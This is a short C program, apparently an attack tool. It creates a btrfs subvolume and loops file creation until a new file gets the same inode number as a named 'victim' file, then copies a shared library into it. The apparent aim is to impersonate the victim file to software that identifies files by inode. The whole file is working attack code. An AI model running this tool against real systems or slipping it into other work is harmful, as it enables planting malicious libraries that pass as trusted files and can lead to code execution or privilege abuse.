/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * same_number LIBRARY FOLDER VICTIM: copies LIBRARY to FOLDER/file.so, which has the inode number of VICTIM. FOLDER is made: on btrfs
 * as a subvolume, where the numbers begin again. Whoever may create files may do this: each gets the number after the last one's.
 */
#include <fcntl.h>
#include <linux/btrfs.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

#define TRIES 100000

static int make_folder(char *path)
{
	struct btrfs_ioctl_vol_args args = { 0 };
	char *base = strrchr(path, '/');
	int parent, error;

	if (!base)
		return -1;
	*base = '\0';
	parent = open(path, O_RDONLY | O_DIRECTORY);
	*base = '/';
	snprintf(args.name, sizeof(args.name), "%s", base + 1);
	error = ioctl(parent, BTRFS_IOC_SUBVOL_CREATE, &args);
	close(parent);
	return error ? mkdir(path, 0755) : 0;
}

int main(int argc, char **argv)
{
	struct stat victim, library, st;
	char path[4096];
	int from, i;

	if (argc != 4 || stat(argv[3], &victim) || stat(argv[1], &library) || make_folder(argv[2]))
		return 1;
	from = open(argv[1], O_RDONLY);
	snprintf(path, sizeof(path), "%s/file.so", argv[2]);
	for (i = 0; i < TRIES; i++) {
		int fd = open(path, O_CREAT | O_EXCL | O_RDWR, 0755);
		off_t at = 0;

		if (fd < 0 || fstat(fd, &st) || st.st_ino > victim.st_ino)
			return 1;
		if (st.st_ino == victim.st_ino) {
			if (sendfile(fd, from, &at, (size_t)library.st_size) != library.st_size)
				return 1;
			printf("number %llu\n", (unsigned long long)st.st_ino);
			return 0;
		}
		close(fd);
		unlink(path);
	}
	return 1;
}
